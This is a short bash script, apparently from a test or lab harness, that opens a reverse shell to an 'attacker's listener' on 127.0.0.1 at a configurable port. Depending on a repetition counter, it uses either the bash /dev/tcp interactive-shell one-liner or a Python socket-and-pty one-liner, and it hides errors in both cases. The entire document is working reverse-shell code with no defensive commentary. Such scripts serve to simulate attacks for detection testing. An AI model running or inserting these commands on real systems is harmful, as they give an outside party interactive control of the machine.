#!/bin/bash
# A reverse shell to the attacker's listener (127.0.0.1:$SHELL_PORT), which sends commands.
if [ $((REP % 2)) -eq 0 ]; then
  bash -c "exec bash -i >& /dev/tcp/127.0.0.1/$SHELL_PORT 0>&1" 2>/dev/null
else
  python3 -c "import os,pty,socket; s=socket.create_connection(('127.0.0.1',$SHELL_PORT)); [os.dup2(s.fileno(),f) for f in (0,1,2)]; pty.spawn('/bin/sh')" 2>/dev/null
fi
